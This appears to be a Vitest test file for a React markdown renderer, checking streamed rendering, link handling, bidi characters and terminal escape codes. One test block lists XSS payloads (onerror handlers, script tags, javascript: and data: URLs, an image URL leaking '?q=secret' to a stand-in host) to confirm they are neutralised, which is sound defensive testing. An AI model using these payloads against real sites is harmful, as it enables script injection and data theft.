import { render } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { RichMarkdown } from './rich-markdown.tsx';

const sample = [
  'Some **bold** text and `code`.',
  '',
  '```ts',
  'const a = 1;',
  '```',
  '',
  '````md',
  '```js',
  'inner()',
  '```',
  '````',
  '',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
  '',
  '- one',
  '  - two',
  '',
  '[x](http://example.com/y) and $$ and <!-- not html -->',
].join('\n');

const draw = (text: string, isLive = true) => render(<RichMarkdown text={text} isLive={isLive} />).container;
const blocks = (container: HTMLElement) => [...(container.firstElementChild?.children ?? [])].map(kindOf);
const kindOf = (element: Element): string => (element.querySelector('pre') !== null ? 'CODE' : element.tagName);

describe('[B55] every prefix of a message', () => {
  test('none throws, and a block that became code stays code', () => {
    let codeBlocks = 0;
    for (let end = 1; end <= sample.length; end += 1) {
      const container = draw(sample.slice(0, end));
      const count = container.querySelectorAll('pre').length;
      expect(count).toBeGreaterThanOrEqual(codeBlocks);
      codeBlocks = count;
    }
    expect(codeBlocks).toBe(2);
  });

  test('the last prefix draws the same as the whole at once', () => {
    const streamed = render(<RichMarkdown text={sample.slice(0, 40)} isLive />);
    for (let end = 41; end <= sample.length; end += 7)
      streamed.rerender(<RichMarkdown text={sample.slice(0, end)} isLive />);
    streamed.rerender(<RichMarkdown text={sample} />);
    expect(blocks(streamed.container)).toEqual(blocks(draw(sample, false)));
    expect(streamed.container.textContent).toBe(draw(sample, false).textContent);
  });

  test('long steps are fine', () => {
    const long = `${sample}\n\n`.repeat(12);
    for (let end = 1000; end < long.length; end += 1000) expect(() => draw(long.slice(0, end))).not.toThrow();
  });
});

describe('[B56] markup that runs or calls home', () => {
  const evil = [
    '<img src=x onerror="alert(1)">',
    '<script>alert(1)</script>',
    '<svg><foreignObject><iframe src="https://t.invalid"></iframe></foreignObject></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '[a](JaVaScRiPt&#58;alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '![x](https://t.invalid/?q=secret)',
    '[local](/s#x)',
    '```mermaid\nclick A "javascript:alert(1)"\n```',
    '<style>@import url(https://t.invalid)</style>',
  ];

  test('nothing of it becomes an element that runs or loads', () => {
    for (const isLive of [true, false]) {
      for (const text of [...evil, evil.join('\n\n')]) {
        const container = draw(text, isLive);
        expect(
          container.querySelector('img, script, svg foreignObject, iframe, style, link, object, embed'),
        ).toBeNull();
        for (const link of container.querySelectorAll('a')) expect(link.href).toMatch(/^(https?|mailto):/);
        for (const element of container.querySelectorAll('*'))
          for (const { name } of element.attributes) expect(name).not.toMatch(/^on/);
      }
    }
  });

  test('HTML is shown as the text it is', () => {
    expect(draw('before <b>bold</b> after', false).textContent).toContain('<b>bold</b>');
  });

  test('what turns the direction of a line is seen as what it is, in text and in code', () => {
    const container = draw('a \u202e b `c \u2066`\n\n```ts\nlet x; // \u202e\n```', false);
    expect(container.textContent).toContain('\\u{202e}');
    expect(container.textContent).toContain('\\u{2066}');
    expect(container.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  test('a link shows where it leads and tells nothing to where it leads', () => {
    const link = draw('[here](https://example.com/a)', false).querySelector('a');
    expect(link?.title).toBe('https://example.com/a');
    expect(link?.rel).toBe('noopener noreferrer');
    expect(link?.target).toBe('_blank');
  });

  test('[CLG-54] while text is provisional, nothing in it is a link', () => {
    const text = '[here](https://example.com/a) https://example.com/b';
    const { container, rerender } = render(<RichMarkdown text={text} isLive />);
    expect(container.querySelector('[href], [title], button')).toBeNull();
    const before = [...container.querySelectorAll('a')];
    expect(before).toHaveLength(2);
    // When the text is checked, the same elements become links: nothing is built or laid out again.
    rerender(<RichMarkdown text={text} />);
    expect([...container.querySelectorAll('a[href]')]).toEqual(before);
  });
});

test('[B35] the codes of a terminal in an answer are not shown, in any step of the way', () => {
  const text =
    '\u001b[1m**bold**\u001b[22m and \u001b]8;;https://a.example\u0007link\u001b]8;;\u0007\n\n```\n\u001b[31mred\u001b[0m\n```\n';
  const streamed = render(<RichMarkdown text="" isLive />);
  for (let end = 1; end <= text.length; end += 1) {
    streamed.rerender(<RichMarkdown text={text.slice(0, end)} isLive />);
    expect(streamed.container.textContent).not.toMatch(/[\u001b\u0007]|\[31|\[1m/);
  }
  streamed.rerender(<RichMarkdown text={text} />);
  expect(streamed.container.textContent).toContain('bold and link');
  expect(streamed.container.querySelector('strong')?.textContent).toBe('bold');
  expect(streamed.container.querySelector('pre')?.textContent).toContain('red');
});
